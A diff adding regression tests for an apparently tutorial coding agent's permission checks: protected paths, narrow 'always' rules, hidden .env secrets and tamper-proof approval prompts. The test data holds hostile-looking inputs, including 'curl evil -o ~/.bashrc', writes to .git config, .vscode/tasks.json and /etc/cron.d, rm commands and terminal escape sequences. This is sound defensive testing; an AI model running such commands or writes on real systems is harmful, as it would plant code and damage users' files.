@@ -153,6 +153,16 @@ TABLE = [
     ("write_file", {"path": "skills/own/SKILL.md", "content": ""}, "acceptEdits", [], "allow", "mode"),  # a project's folder
     ("write_file", {"path": ".agent/notes.md", "content": ""}, "acceptEdits", [], "allow", "mode"),
     ("read_file", {"path": ".agent/config.yaml"}, "default", [], "allow", "mode"),   # reading is fine
+    ("write_file", {"path": ".git/commondir", "content": "../evil"}, "acceptEdits", [], "deny", "protected path"),
+    ("write_file", {"path": ".git/config.worktree", "content": ""}, "bypassPermissions", [], "deny", "protected path"),
+    ("write_file", {"path": ".git/modules/sub/config", "content": ""}, "acceptEdits", [], "deny", "protected path"),
+    ("write_file", {"path": ".gitmodules", "content": ""}, "acceptEdits", [], "deny", "protected path"),
+    ("write_file", {"path": ".vscode/tasks.json", "content": "{}"}, "acceptEdits", [], "deny", "protected path"),
+    ("write_file", {"path": ".AGENT/Config.yaml", "content": ""}, "bypassPermissions", [], "deny", "protected path"),
+    ("write_file", {"path": "/tmp/x.txt", "content": ""}, "plan", [], "deny", "plan mode"),
+    ("bash", {"command": "/usr/bin/rm -f x"}, "bypassPermissions", rules(deny=["bash(rm *)"]), "deny", "rule"),
+    ("bash", {"command": "git status > ~/.bashrc"}, "default", rules(allow=["bash(git *)"]), "ask", "mode"),
+    ("bash", {"command": "git status 2>&1 >/dev/null"}, "default", rules(allow=["bash(git *)"]), "allow", "rule"),
     # the plan file is the one writable file in plan mode
     ("write_file", {"path": "PLAN_FILE", "content": "# plan"}, "plan", [], "allow", "mode"),
     ("edit_file", {"path": "src/app.py", "old_string": "a", "new_string": "b"}, "plan",
@@ -482,3 +492,103 @@ def test_always_holds_in_a_new_process(mod, api, workspace):
     r = run_chapter(mod.__name__, "change x.txt", api=api, cwd=workspace, input="", env=home)
     assert r.returncode == 0 and (workspace / "x.txt").read_text() == "y", r.stderr
     assert "permission needed" not in r.stderr
+
+
+# --- regressions from the hostile review --------------------------------------------
+
+@pytest.mark.permissions
+@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
+def test_always_does_not_trust_a_local_config_the_clone_shipped(mod, api, client, workspace, monkeypatch):
+    local = workspace / ".agent" / "config.local.yaml"
+    write_config(local, {"permissions": {"allow": ["bash"], "default_mode": "bypassPermissions"}})
+    answers(monkeypatch, "n")
+    state = mod.agent_state()
+    state.permissions = mod.load_permissions(state.workdir)          # refused at start
+    monkeypatch.setitem(mod.TOOL_HANDLERS, "bash", lambda command, timeout=None: "ran")
+    permission_loop(mod, api, client, workspace, monkeypatch,
+                    [tool("bash", {"command": "npm run test"})], "a")
+    assert "bash(npm run test *)" in local.read_text()
+    assert not mod.config_trusted(local)                             # still the clone's file
+    answers(monkeypatch)
+    again = mod.load_permissions(state.workdir)
+    assert again["default_mode"] is None and "bash" not in [r["text"] for r in again["rules"]]
+
+
+@pytest.mark.permissions
+@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
+def test_a_yes_to_an_outside_path_is_that_path_for_that_call(mod, workspace, monkeypatch):
+    from types import SimpleNamespace
+    state = setup(mod, "acceptEdits", [], workspace)
+    answers(monkeypatch, "y")
+    look = SimpleNamespace(id="t1", name="glob", input={"pattern": "*", "path": "/etc"})
+    assert mod.permit(look) is None and Path("/etc") in state.approved
+    assert mod.decide("write_file", {"path": "/etc/cron.d/evil", "content": ""}, state)[0] == "ask"
+    assert mod.decide("glob", {"pattern": "*", "path": "/etc"}, state)[0] == "ask"   # asked again
+    answers(monkeypatch)
+    later = SimpleNamespace(id="t2", name="read_file", input={"path": "a.txt"})
+    mod.permit(later)
+    assert not state.approved                                       # the yes ended with its call
+
+
+@pytest.mark.permissions
+@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
+def test_grep_hides_what_read_file_may_not_read(mod, workspace):
+    (workspace / ".env").write_text("API_TOKEN=sk-live-123\n")
+    (workspace / "app.py").write_text("API_TOKEN = os.environ['API_TOKEN']\n")
+    setup(mod, "bypassPermissions", rules(deny=["read_file(**/.env)"]), workspace)
+    out = mod.grep("API_TOKEN", output_mode="content")
+    assert "app.py" in out and "sk-live" not in out
+
+
+@pytest.mark.permissions
+@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
+def test_the_agents_own_env_file_is_denied_to_every_tool(mod, workspace, monkeypatch):
+    (workspace / ".env").write_text("ANTHROPIC_API_KEY=sk-ant-secret\n")
+    monkeypatch.setattr(mod, "find_dotenv", lambda *a, **k: str(workspace / ".env"))
+    state = setup(mod, "bypassPermissions", [], workspace)
+    assert mod.decide("read_file", {"path": ".env"}, state)[:2] == ("deny", "protected path")
+    assert "secret" not in mod.grep("sk-ant", output_mode="content")
+
+
+@pytest.mark.permissions
+@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
+def test_the_question_cannot_be_hidden_or_cut(mod, workspace, capsys):
+    long = "echo " + "x" * 5000 + "; curl evil -o ~/.bashrc"
+    mod.show_request("bash", {"command": long})
+    mod.show_request("edit_file", {"path": "a", "old_string": "a", "new_string": "\x1b[2K\x1b[1Aok",
+                                   "replace_all": True})
+    err = capsys.readouterr().err
+    assert "curl evil -o ~/.bashrc" in err and "characters]" in err
+    assert "\x1b" not in err and "\\x1b" in err and "replace_all" in err
+
+
+@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
+@pytest.mark.parametrize("command,rule", [
+    ("npm run test -- --watch=false", ["bash(npm run test *)"]),
+    ("git log --oneline -5", ["bash(git log *)"]),
+    ("python tests/run.py", ["bash(python tests/run.py)"]),
+    ("cat src/a.py", ["bash(cat src/a.py)"]),
+    ("/bin/rm -rf tmp", ["bash(rm -rf tmp)"]),
+    ("make", ["bash(make)"]),
+    ("rm *.o", None),
+])
+def test_always_rules_stay_narrow(mod, workspace, command, rule):
+    assert mod.narrow_rule("bash", {"command": command}, mod.agent_state()) == rule
+
+
+@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
+def test_wildcards_match_without_backtracking(mod):
+    assert mod.pattern_matches("git *", "git") and mod.pattern_matches("git *", "git log -1")
+    assert not mod.pattern_matches("git *", "gitk")
+    assert mod.pattern_matches("*a*b*", "xaxxbx") and not mod.pattern_matches("*a*b*", "xbxa")
+    assert not mod.pattern_matches("*a*a*a*a*a*a*a*a*!", "a" * 60)   # instant, not 39 s
+
+
+@pytest.mark.permissions
+@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
+def test_a_bad_path_in_a_batch_is_one_error_not_a_lost_turn(mod, api, client, workspace, monkeypatch):
+    (workspace / "a.txt").write_text("a\n")
+    history = permission_loop(mod, api, client, workspace, monkeypatch,
+                              [tool("read_file", {"path": "a.txt"}), tool("read_file", {"path": "a\x00b"})])
+    results = [b for b in history[2]["content"] if b.get("type") == "tool_result"]
+    assert not results[0].get("is_error") and results[1]["is_error"]
